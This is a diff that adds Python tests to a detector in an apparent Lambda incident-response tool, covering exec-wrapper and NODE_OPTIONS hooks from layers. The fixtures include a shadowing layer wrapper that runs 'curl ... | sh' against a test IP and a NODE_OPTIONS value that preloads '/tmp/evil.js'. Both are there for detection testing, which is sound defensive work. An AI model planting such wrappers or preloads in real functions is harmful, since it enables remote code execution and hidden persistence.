@@ -18,7 +18,7 @@ from lambda_ir.analyze.detectors import (
     cfg_weighted_alias,
     pol_public_invoke,
 )
-from lambda_ir.model import Severity
+from lambda_ir.model import Finding, Severity
 from tests.analyze.casebuild import (
     ACCOUNT,
     DATA,
@@ -152,6 +152,65 @@ def test_hook_env_resolved_in_layer(builder: CaseBuilder) -> None:
     assert finding.details["yara"] == []
     assert finding.evidence[0].path == entry.path
     assert finding.evidence[1].path == blob.path and finding.evidence[1].member == "bin/wrap.sh"
+
+
+DATADOG_LAYER = f"arn:aws:lambda:{REGION}:464622532012:layer:Datadog-Extension:65"
+SHADOW_LAYER = f"arn:aws:lambda:{REGION}:999988887777:layer:shared-utils:3"
+WRAPPER_FILES = {
+    DATADOG_LAYER: '#!/bin/bash\nexec "$@"\n',
+    SHADOW_LAYER: '#!/bin/bash\ncurl -s http://203.0.113.66/x | sh &\nexec "$@"\n',
+}
+
+
+def _wrapped(builder: CaseBuilder, layers: list[str]) -> list[Finding]:
+    for arn in layers:
+        builder.layer(arn, zip_bytes({"datadog_wrapper": WRAPPER_FILES[arn]}))
+    env = {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/datadog_wrapper"}
+    builder.versions("orders", [function_config("orders", env=env, layers=layers)])
+    return list(run_detector(builder, cfg_hook_env.DETECTOR))
+
+
+def test_hook_env_vendor_wrapper_shadowed_by_a_later_layer_is_high(builder: CaseBuilder) -> None:
+    [finding] = _wrapped(builder, [DATADOG_LAYER, SHADOW_LAYER])
+    assert finding.severity is Severity.HIGH
+    assert finding.details["vendor"] is None
+    assert finding.details["shadowed_by"] == SHADOW_LAYER
+    assert f"comes from layer {SHADOW_LAYER}" in finding.summary
+    # Both copies are cited: the responder compares them.
+    assert [e.member for e in finding.evidence[1:]] == ["datadog_wrapper", "datadog_wrapper"]
+
+
+def test_hook_env_vendor_wrapper_from_the_vendors_own_last_layer_is_info(
+    builder: CaseBuilder,
+) -> None:
+    # The foreign copy comes first, so Datadog's (extracted later) is the file that runs.
+    [finding] = _wrapped(builder, [SHADOW_LAYER, DATADOG_LAYER])
+    assert finding.severity is Severity.INFO
+    assert finding.details["vendor"] == "Datadog" and finding.details["shadowed_by"] is None
+
+
+def test_hook_env_extra_preload_beside_a_vendor_hook_is_judged_alone(
+    builder: CaseBuilder,
+) -> None:
+    node_layer = f"arn:aws:lambda:{REGION}:464622532012:layer:Datadog-Node20-x:112"
+    handler = "/opt/nodejs/node_modules/datadog-lambda-js/handler.js"
+    values = {
+        "orders": f"--require {handler} --require /tmp/evil.js",
+        "billing": f"--require {handler} --require /var/task/extra.js",
+        "audit": f"--require {handler}",
+    }
+    for name, value in values.items():
+        env = {"NODE_OPTIONS": value}
+        config = function_config(name, runtime="nodejs20.x", env=env, layers=[node_layer])
+        builder.versions(name, [config])
+    found = {f.resource.split(":")[6]: f for f in run_detector(builder, cfg_hook_env.DETECTOR)}
+    assert found["orders"].severity is Severity.HIGH
+    assert found["orders"].details["undocumented"] == ["/tmp/evil.js"]
+    assert f"Datadog documents {handler}, not /tmp/evil.js" in found["orders"].summary
+    assert found["billing"].severity is Severity.MEDIUM
+    assert (
+        found["audit"].severity is Severity.INFO and found["audit"].details["vendor"] == "Datadog"
+    )
 
 
 def test_hook_env_quiet_for_ordinary_variables(builder: CaseBuilder) -> None:
